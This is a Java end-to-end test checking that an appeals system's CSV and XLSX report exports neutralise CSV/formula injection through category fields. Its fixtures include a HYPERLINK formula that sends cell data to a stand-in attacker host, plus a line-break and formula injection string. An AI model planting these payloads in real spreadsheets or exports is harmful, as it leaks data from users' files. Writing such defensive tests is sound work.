package ru.appealdesk.e2e;

import java.io.ByteArrayInputStream;
import java.io.StringReader;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.util.List;

import com.fasterxml.jackson.databind.node.ObjectNode;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

import ru.appealdesk.support.Api;
import ru.appealdesk.support.EndToEndTest;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * CSV injection through the reports (issue 22, finding 5): a portal may send any category (an unknown one is kept
 * as given), and the topics and public reports print it. A formula stays text, and line breaks inject no row.
 */
class ReportInjectionTest extends EndToEndTest {

    static final String FORMULA = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Подробнее\")";
    static final String BROKEN_LINES = "ямы\r\n\r\n=1+2;@SUM(A1)";

    @Test
    void aHostileCategoryIsPlainTextInEveryExport() throws Exception {
        // given two appeals whose categories a portal made up: a formula, and line breaks before one
        register(appeal("INJ-2026-1", FORMULA));
        register(appeal("INJ-2026-2", BROKEN_LINES));

        // when the topics report is exported as CSV, then the formula is text and the line breaks stay in their cell
        List<CSVRecord> topics = csv("/api/reports/topics?from=2026-03-01&to=2026-03-31&format=csv");
        assertThat(topics).hasSize(4); // header, two categories, totals
        assertThat(topics.stream().map(r -> r.get(0)).toList()).contains("'" + FORMULA, BROKEN_LINES);
        assertThat(topics.get(3).get(0)).isEqualTo("Итого");
        for (CSVRecord row : topics) {
            assertThat(row.size()).isEqualTo(topics.get(0).size());
        }

        // and so in the public report, which the official site publishes
        List<CSVRecord> published = csv("/api/reports/public?month=2026-03&format=csv");
        assertThat(published.stream().map(r -> r.get(0)).toList())
                .contains("Тема: " + FORMULA, "Тема: " + BROKEN_LINES);
        for (CSVRecord row : published) {
            assertThat(row.size()).isEqualTo(2);
            assertThat(row.get(0)).doesNotStartWith("=").doesNotStartWith("@").doesNotStartWith("+");
        }

        // and the workbooks hold it as a string cell, never as a formula
        assertStringCell(xlsx("/api/reports/topics?from=2026-03-01&to=2026-03-31&format=xlsx"), "Тематика", 0);
        assertStringCell(xlsx("/api/reports/discipline?from=2026-03-01&to=2026-03-31&format=xlsx"), "Обращения", 2);
    }

    private static ObjectNode appeal(String number, String category) {
        ObjectNode body = appealRequest(number, category);
        body.put("receivedAt", "2026-03-02T10:00:00+03:00");
        return body;
    }

    private List<CSVRecord> csv(String path) throws Exception {
        Api.Response response = api.get(path);
        assertThat(response.status()).isEqualTo(200);
        assertThat(response.raw()).startsWith("\uFEFF");
        try (CSVParser parser = CSVParser.parse(new StringReader(response.raw().substring(1)),
                CSVFormat.RFC4180.builder().setDelimiter(';').get())) {
            return parser.getRecords();
        }
    }

    private byte[] xlsx(String path) throws Exception {
        HttpResponse<byte[]> response = HttpClient.newHttpClient().send(HttpRequest.newBuilder(
                        URI.create(api.base() + path)).header("Authorization", "Bearer " + Api.TOKEN).build(),
                HttpResponse.BodyHandlers.ofByteArray());
        assertThat(response.statusCode()).isEqualTo(200);
        return response.body();
    }

    private static void assertStringCell(byte[] workbook, String sheetName, int column) throws Exception {
        try (XSSFWorkbook wb = new XSSFWorkbook(new ByteArrayInputStream(workbook))) {
            Sheet sheet = wb.getSheet(sheetName);
            Cell found = null;
            for (Row row : sheet) {
                Cell cell = row.getCell(column);
                assertThat(cell == null ? CellType.BLANK : cell.getCellType()).isNotEqualTo(CellType.FORMULA);
                if (cell != null && cell.getCellType() == CellType.STRING
                        && cell.getStringCellValue().equals(FORMULA)) {
                    found = cell;
                }
            }
            assertThat(found).as(sheetName).isNotNull();
            assertThat(found.getStringCellValue()).isEqualTo(FORMULA);
        }
    }
}
